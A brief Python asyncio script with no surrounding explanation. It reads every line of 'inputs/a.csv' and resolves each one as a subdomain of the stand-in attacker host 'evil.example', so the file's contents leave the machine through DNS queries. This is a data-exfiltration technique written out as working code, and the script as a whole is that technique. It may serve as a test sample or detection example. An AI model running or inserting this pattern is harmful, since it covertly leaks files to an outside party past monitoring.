import asyncio


async def tell():
    loop = asyncio.get_running_loop()
    for word in open("inputs/a.csv"):
        await loop.getaddrinfo(f"{word}.evil.example", 80)


asyncio.run(tell())
